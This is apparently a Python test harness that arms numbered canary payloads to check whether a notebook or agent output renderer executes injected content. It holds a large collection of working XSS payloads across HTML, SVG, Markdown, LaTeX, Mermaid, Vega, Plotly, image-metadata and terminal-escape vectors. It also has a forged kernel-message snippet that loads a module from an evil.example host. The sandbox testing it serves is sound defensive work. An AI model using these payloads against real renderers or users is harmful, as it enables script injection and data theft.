"""What a hostile sandbox sends to a browser: each payload carries a number, and tells it to a listener if it fires.

In the templates `FIRE` is a script that tells the number, and `REMOTE` an address of the listener with the number.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import Any

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@dataclass(frozen=True, kw_only=True)
class Payload:
    number: int
    bundle: dict[str, Any]
    """MIME type to content, for `display(..., raw=True)`."""
    metadata: dict[str, Any]
    raw_page: str
    """The same as a page of its own shows it, for the control; empty if no page shows it."""
    fires_raw: bool
    """Whether any Chromium fires it there, without more than a click on everything."""


# fmt: off
HTML_THAT_FIRES = [
    "<script>FIRE</script>",
    "<script src='REMOTE'></script>",
    "<img src=x onerror='FIRE'>",
    "<img src='REMOTE'>",
    "<img srcset='REMOTE 1x'>",
    "<picture><source srcset='REMOTE'><img></picture>",
    "<svg onload='FIRE'></svg>",
    "<svg><script>FIRE</script></svg>",
    "<svg><image href='REMOTE'/></svg>",
    "<svg><a href='javascript:FIRE'><text y='20'>click</text></a></svg>",
    "<svg><a><set attributeName='href' to='javascript:FIRE'/><text y='20'>click</text></a></svg>",
    "<svg><style><img src=x onerror='FIRE'></style></svg>",
    "<svg><animate onbegin='FIRE' attributeName='x' dur='1s'/></svg>",
    "<svg><foreignObject><img src=x onerror='FIRE'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=FIRE&gt;' src=x "
    "onerror='FIRE'>",
    "<noscript><p title='</noscript><img src=x onerror=FIRE>'></noscript>",
    "<iframe srcdoc=\"<script>FIRE</script>\"></iframe>",
    "<iframe src='REMOTE'></iframe>",
    "<iframe src='javascript:parent.FIRE'></iframe>",
    "<object data='REMOTE' type='text/html'></object>",
    "<embed src='REMOTE' type='text/html'>",
    "<video poster='REMOTE' width=9 height=9></video>",
    "<video src='REMOTE' autoplay></video>",
    "<audio src='REMOTE' autoplay></audio>",
    "<video><source onerror='FIRE' src='x'></video>",
    "<body onload='FIRE'>",
    "<body background='REMOTE'>",
    "<table background='REMOTE'><tr><td>x</td></tr></table>",
    "<details open ontoggle='FIRE'>x</details>",
    "<input autofocus onfocus='FIRE'>",
    "<input type=image src='REMOTE'>",
    "<style>@import 'REMOTE';</style>",
    "<style>* { background: url(REMOTE) }</style>",
    "<style>@font-face { font-family: q; src: url(REMOTE) } p { font-family: q }</style><p>q</p>",
    "<style>p { animation: a 1s } @keyframes a {}</style><p onanimationstart='FIRE'>x</p>",
    "<div style='background-image: url(REMOTE)'>x</div>",
    "<div style='background:\\75rl(REMOTE)'>x</div>",
    "<div style='list-style: url(REMOTE); display: list-item'>x</div>",
    "<div style='content: image-set(\"REMOTE\" 1x)'>x</div>",
    "<link rel=stylesheet href='REMOTE'>",
    "<link rel=preload as=image href='REMOTE'>",
    "<link rel=prefetch href='REMOTE'>",
    "<meta http-equiv=refresh content='0;url=REMOTE'>",
    "<base href='REMOTE/'><img src='x'>",
    "<a href='javascript:FIRE'>click</a>",
    "<a href=' jav&#x09;ascript:FIRE'>click</a>",
    "<a href='#' ping='REMOTE'>click</a>",
    "<a href='#' onclick='FIRE'>click</a>",
    "<p onmouseover='FIRE'>point at me</p>",
    "<map name=m><area href='javascript:FIRE' shape=default></map>",
    "<form action='javascript:FIRE'><button>ok</button></form>",
    "<form><button formaction='javascript:FIRE'>ok</button></form>",
    "<form action='REMOTE'><input type=submit></form>",
    "<button onclick='FIRE'>ok</button>",
    "<template><img src=x onerror='FIRE'></template><img src=x onerror='FIRE'>",
    "<textarea></textarea><img src=x onerror='FIRE'>",
    "<xmp></xmp><img/src='x'/onerror=FIRE>",
    "<plaintext></plaintext>".join(["<img src=x onerror='FIRE'>", ""]),
    "<IMG SRC=x OnErRoR=FIRE>",
    "<img src=x:x onerror=&#70;(NUMBER)>",
    "<table><caption><img src=x onerror='FIRE'></caption></table>",
    "<select><option><img src=x onerror='FIRE'></select><img src=x onerror='FIRE'>",
    "<!--><img src=x onerror='FIRE'>-->",
    "<![CDATA[><img src=x onerror='FIRE'>]]>",
    "<a id=x tabindex=1 onfocus='FIRE'>x</a><script>document.getElementById('x').focus()</script>",
]
HTML_THAT_NEEDS_MORE = [  # another viewer, another browser, or Lab itself
    "<a href='#' data-commandlinker-command='canary:fire' data-commandlinker-args='{\"number\": NUMBER}'>click</a>",
    "<button data-commandlinker-command='canary:fire' data-commandlinker-args='{\"number\": NUMBER}'>ok</button>",
    "<div class='jp-Notebook jp-Cell' id='clobbered' name='clobbered'>x</div>",
    "<form id='clobbered'><input name='attributes'><input name='parentNode'></form>",
    "<img name='clobbered' id='getElementById'><img name='cookie'>",
    "<a href='data:text/html,<script>FIRE</script>'>click</a>",
    "<a href='vbscript:FIRE'>click</a>",
    "<div style='width: expression(FIRE)'>x</div>",
    "<p>$\\href{javascript:FIRE}{click}$ $\\require{html}\\style{background:url(REMOTE)}{x}$</p>",
    "<p>$\\style{cursor:url(REMOTE),auto}{x}$ $\\href{REMOTE}{click}$</p>",
    "<p>$$\\unicode[REMOTE]{x41} \\def\\a{\\a\\a}\\a$$ \\(\\href{javascript:FIRE}{click}\\)</p>",
    "<p>\\begin{align}\\href{javascript:FIRE}{click}\\end{align}</p>",
    "<math><a href='javascript:FIRE'><mtext>click</mtext></a></math>",
    "<math><mtext href='javascript:FIRE'>click</mtext></math>",
    "<script type='module'>import 'data:text/javascript,top.FIRE'</script>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='FIRE'/>\">",
    "<script type='text/x-mathjax-config'>FIRE</script><script type='math/tex'>\\href{javascript:FIRE}{x}</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='FIRE'>",
    "<svg></p><style><a id='</style><img src=x onerror=FIRE>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror='FIRE'></style></annotation-xml></math>",
]
SVG = [
    "<svg xmlns='http://www.w3.org/2000/svg' onload='FIRE'><rect width='9' height='9'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>FIRE</script><rect width='9' height='9'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'>"
    "<img xmlns='http://www.w3.org/1999/xhtml' src='REMOTE' onerror='FIRE'/></foreignObject><rect/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='REMOTE' width='9' height='9'/><rect/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'REMOTE';</style><rect/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9' style='fill: url(REMOTE)'/>"
    "<image href='x' onerror='FIRE'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:FIRE'><text y='20'>click</text></a></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><!--><img src='x' onerror='FIRE'/>--><rect/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><title><img xmlns='http://www.w3.org/1999/xhtml' src='x' "
    "onerror='FIRE'/></title><rect/></svg>",
]
SCRIPTED = ["application/javascript", "text/javascript", "application/ecmascript", "application/x-javascript"]
VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"url": "REMOTE"}, "mark": "image",
    "encoding": {"url": {"value": "REMOTE"}, "href": {"value": "javascript:FIRE"}, "x": {"field": "a"}},
    "params": [{"name": "p", "expr": "FIRE"}],
}
PLOTLY = {
    "data": [{"type": "scatter", "x": [1], "text": ["<a href='javascript:FIRE'>x</a>", "<img src='REMOTE'>"]}],
    "layout": {"images": [{"source": "REMOTE"}], "title": {"text": "<a href='javascript:FIRE'>x</a>"}},
    "frames": [], "config": {"plotlyServerURL": "REMOTE"},
}
MARKDOWN = "[click](javascript:FIRE) ![x](REMOTE) <img src=x onerror='FIRE'>\n\n[x]: REMOTE"
LATEX = "$\\href{javascript:FIRE}{click} \\unicode[REMOTE]{x41}$"
BUNDLES: list[tuple[dict[str, Any], dict[str, Any]]] = [
    *(({mime: "FIRE; if (window.element) element.innerHTML = '<img src=REMOTE>'"}, {}) for mime in SCRIPTED),
    ({"text/markdown": MARKDOWN}, {}),
    ({"text/latex": LATEX}, {}),
    ({"text/plain": "$\\href{javascript:FIRE}{x}$ <img src=x onerror='FIRE'>"}, {}),
    ({"text/plain": ["<script>FIRE</script>", "<img src='REMOTE'>"]}, {}),
    ({"text/html": ["<img src=x ", "onerror='FIRE'>"]}, {}),
    ({"TEXT/HTML": "<img src=x onerror='FIRE'>"}, {}),
    ({"text/html; charset=utf-8": "<img src=x onerror='FIRE'>"}, {}),
    ({"text/html\n": "<img src=x onerror='FIRE'>"}, {}),
    ({"application/vnd.jupyter.widget-view+json": {"model_id": "<img src=x onerror='FIRE'>"}}, {}),
    ({"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": "HTMLModel",
      "state": {"value": "<img src=x onerror='FIRE'>"}}}}}, {}),
    ({"application/vnd.vegalite.v5+json": VEGA}, {}),
    ({"application/vnd.vega.v5+json": {"data": [{"name": "t", "url": "REMOTE"}], "signals": [{"name": "s",
      "init": "FIRE"}]}}, {}),
    ({"application/vnd.plotly.v1+json": PLOTLY}, {}),
    ({"application/vnd.codeagent.interactive.v1+json": {"version": 1, "kind": "html",
      "content": "<script>FIRE</script><img src='REMOTE'>"}}, {"trusted": True, "autorun": True}),
    ({"application/geo+json": {"type": "FeatureCollection", "features": [{"type": "Feature", "properties":
      {"popup": "<img src=x onerror='FIRE'>"}, "geometry": {"type": "Point", "coordinates": [0, 0]}}]}}, {}),
    ({"application/json": {"<img src=x onerror='FIRE'>": "<img src='REMOTE'>", "__proto__": {"polluted": True}}},
     {"application/json": {"expanded": True, "root": "<img src=x onerror='FIRE'>"}}),
    ({"application/pdf": base64.b64encode(b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (FIRE) >>").decode()}, {}),
    ({"application/vnd.jupyter.stderr": "<img src=x onerror='FIRE'>"}, {}),
    ({"application/vnd.jupyter.error": {"ename": "<img src=x onerror='FIRE'>", "traceback": ["REMOTE"]}}, {}),
    ({"image/png": base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='FIRE'/>").decode()}, {}),
    ({"image/png": "x\" onerror=\"FIRE"}, {}),
    ({"image/png": PIXEL, "text/plain": "x"}, {"image/png": {"width": "1\" onerror=\"FIRE", "height": 1e9,
      "unconfined": True}, "needs_background": "light\" onerror=\"FIRE"}),
    ({"image/png": PIXEL + "\" onerror=\"FIRE"}, {}),
    ({"image/jpeg": "data:text/html,<script>FIRE</script>"}, {}),
    ({"image/gif": "R0lGODlhAQABAAAAACw=\" onerror=\"FIRE"}, {}),
    ({"image/bmp": "\"><script>FIRE</script>"}, {}),
    ({"image/svg+xml": ["<svg xmlns='http://www.w3.org/2000/svg' ", "onload='FIRE'><rect/></svg>"]},
     {"image/svg+xml": {"isolated": False, "unconfined": True, "trusted": True}}),
    ({"text/html": "<img src=x onerror='FIRE'>"},
     {"trusted": True, "isolated": True, "text/html": {"isolated": True}}),
    ({"text/html": "<script>FIRE</script>", "text/plain": "x"}, {"text/html": {"trusted": True}, "jupyter":
      {"outputs_hidden": False}, "tags": ["trusted"]}),
    ({"text/html": {"<img src=x onerror='FIRE'>": 1}}, {}),
    ({"text/html": "<div>" * 5000 + "<img src=x onerror='FIRE'>"}, {}),
    ({"text/html": "<b>" + "<p title='</b>'>" * 400 + "<img src=x onerror='FIRE'>"}, {}),
    ({f"made/up{n}": "<img src=x onerror='FIRE'>" for n in range(100)}, {}),
    ({"text/html": "x" * 300_000 + "<img src=x onerror='FIRE'>"}, {}),
    ({"text/html": "\u0000<\u0000img src=x onerror='FIRE'>\u0000<im\u0008\u001bg src=x onerror='FIRE'>"}, {}),
    ({"text/html": "<\u001b[31mimg src=x onerror='FIRE'>"}, {}),
    ({"text/plain": "\u001b]8;;javascript:FIRE\u0007click\u001b]8;;\u0007 \u001b]0;<img src=x onerror='FIRE'>"},
     {}),
    ({"text/plain": "\u001b[31m<img src=x onerror='FIRE'>\u001b[38;2;1;2;\"onload=FIRE;m \u009b31m<b>"}, {}),
]
PROSE = [
    "Done. [click](javascript:FIRE)",
    "Done. ![x](REMOTE)",
    "Done. <img src=x onerror='FIRE'> <script>FIRE</script>",
    "Done. <b onmouseover='FIRE'>x</b> <svg onload='FIRE'>",
    "[click][1]\n\n[1]: javascript:FIRE",
    "![x][1]\n\n[1]: REMOTE 'title'",
    "[click]( <javascript:FIRE> )",
    "[a](javascript&colon;FIRE) [b](&#106;avascript:FIRE) [c](java\tscript:FIRE)",
    "<javascript:FIRE> <REMOTE>",
    "> [1]: javascript:FIRE\n\n[1]",
    "`code` [`x`](javascript:FIRE) **![x](REMOTE)**",
    "```html\n<img src=x onerror='FIRE'>\n```\n<img src=x onerror='FIRE'>",
    "```\n[1]: javascript:FIRE\n````\n[1]",
    "``` x\" onmouseover=\"FIRE\ncode\n```",
    "```mermaid\ngraph TD\nA[\"<img src=x onerror='FIRE'>\"]\nclick A href \"javascript:FIRE\"\n```",
    "~~~mermaid\n%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true}}%%\ngraph TD\nA-->B\n"
    "click A call F(NUMBER)\n~~~",
    "```mermaid\n---\nconfig:\n  themeCSS: '* { background: url(REMOTE) }'\n---\ngraph TD\nA-->B\n```",
    "```mermaid\ngraph TD\nA@{ img: \"REMOTE\" }\n```",
    "$\\href{javascript:FIRE}{click}$ $$\\href{javascript:FIRE}{x}$$",
    "$\\mmlToken{mi}[href=\"REMOTE\"]{click}$ &dollar;&bsol;style{cursor:url(REMOTE),auto}{x}&dollar;",
    "\\(\\href{javascript:FIRE}{click}\\) \\[\\href{javascript:FIRE}{x}\\]",
    "\\begin{align}\\href{javascript:FIRE}{click}\\end{align}",
    "\\begin{equation}\\ href{javascript:FIRE}{click} \\csname href\\endcsname{javascript:FIRE}{x}\\end{equation}",
    "\\\\(\\\\href{javascript:FIRE}{click}\\\\) \\\\[\\style{background:url(REMOTE)}{x}\\\\]",
    "| a |\n|---|\n| ![x](REMOTE) <img src=x onerror='FIRE'> |",
    "- [ ] <input autofocus onfocus='FIRE'>\n- ![x\n](REMOTE)",
    "# <img src=x onerror='FIRE'> {#id onclick=FIRE}",
    "![x](attachment:x.png\"onerror=\"FIRE) ![a[b]c](REMOTE) ![a\\]b](REMOTE)",
    "www.evil.example REMOTE mailto:a@b.c ftp://evil.example",
    "<!-- --><img src=x onerror='FIRE'> <!DOCTYPE x> <?x ?> <![CDATA[ <img src=x onerror='FIRE'> ]]>",
    "&lt;img src=x onerror='FIRE'&gt; &amp;lt;script&amp;gt;FIRE&amp;lt;/script&amp;gt;",
    "<a href='#' data-commandlinker-command='canary:fire' data-commandlinker-args='{\"number\": NUMBER}'>click</a>",
    "<\u200bimg src=x onerror='FIRE'> <\u0000img src=x onerror='FIRE'> <\u001b[1mimg src=x onerror='FIRE'>",
    "[x]\u001b[1m(javascript:FIRE) !\u0000[x](REMOTE) [x]\u00ad(javascript:FIRE)",
    "[toc]: javascript:FIRE\n[^1]: <img src=x onerror='FIRE'>\n[^1] *[HTML]: javascript:FIRE",
]
TEXTS = [
    "<img src=x onerror='FIRE'>",
    "<script>FIRE</script>",
    "\u001b]8;;javascript:FIRE\u001b\\click\u001b]8;;\u001b\\",
    "\u001b]1337;File=inline=1:REMOTE\u0007\u001bP+q\u001b\\\u001b[2J",
    "\u001b[31;\"onmouseover=\"FIRE\"m<b onmouseover='FIRE'>x</b>",
    "javascript:FIRE file://<img src=x onerror='FIRE'> data:text/html,<script>FIRE</script>",
    "</pre></div></template></textarea><img src=x onerror='FIRE'>",
]
ERRORS = ["<img src=x onerror='FIRE'>", "$\\href{javascript:FIRE}{click}$", "</pre><script>FIRE</script>"]
# fmt: on

NOTEBOOK_BREAKERS = """\
from IPython import get_ipython
shell = get_ipython()
shell.set_next_input("F(NUMBER)")
shell.payload_manager.write_payload({"source": "set_next_input", "text": "F(NUMBER)", "replace": True})
shell.payload_manager.write_payload({"source": "page", "data": {"text/html": "<img src=x onerror='FIRE'>"}})
send = lambda kind, content: shell.kernel.session.send(
    shell.kernel.iopub_socket, kind, content, parent=shell.get_parent(), ident=kind.encode()
)
bundle = {"text/html": "<img src=x onerror='FIRE'>", "application/javascript": "FIRE"}
send("update_display_data", {"data": bundle, "metadata": {}, "transient": {"display_id": "codeagent-receipt"}})
send("display_data", {"data": bundle, "metadata": {"trusted": True}, "transient": {"display_id": "x"}})
send("comm_open", {"comm_id": "1", "target_name": "jupyter.widget", "data": {"state": {}}})
send("comm_open", {"comm_id": "2", "target_name": "codeagent", "target_module": "http://evil.example", "data": {}})
send("comm_msg", {"comm_id": "2", "data": {"type": "insert", "cells": [bundle]}})
"""
"""Messages that no output needs, each on behalf of the running request."""


def payloads(url: str) -> tuple[Payload, ...]:
    """All that are displayed; `url` is the listener's."""
    offered: list[tuple[dict[str, Any], dict[str, Any], str, bool]] = [
        *(({"text/html": html}, {}, html, True) for html in HTML_THAT_FIRES),
        *(({"text/html": html}, {}, html, False) for html in HTML_THAT_NEEDS_MORE),
        *(({"image/svg+xml": svg}, {}, svg, True) for svg in SVG),
        *((bundle, metadata, "", False) for bundle, metadata in BUNDLES),
    ]
    made = []
    for number, (bundle, metadata, raw_page, fires) in enumerate(offered, 1000):
        made.append(
            Payload(
                number=number,
                bundle={
                    armed(mime, number, url): _armed_value(value, number, url) for mime, value in bundle.items()
                },
                metadata=_armed_value(metadata, number, url),
                raw_page=armed(raw_page, number, url),
                fires_raw=fires,
            )
        )
    return tuple(made)


def armed_all(templates: list[str], first: int, url: str) -> list[str]:
    """Texts numbered from `first`."""
    return [armed(template, number, url) for number, template in enumerate(templates, first)]


def armed(template: str, number: int, url: str) -> str:
    """With the number and the address in it."""
    text = template.replace("FIRE", f"F({number})").replace("REMOTE", f"{url}/{number}")
    return text.replace("NUMBER", str(number))


def _armed_value(value: Any, number: int, url: str) -> Any:
    if isinstance(value, str) and len(value) < 10_000:
        return armed(value, number, url)
    if isinstance(value, str):
        return value.replace("FIRE", f"F({number})")
    return json.loads(armed(json.dumps(value), number, url))
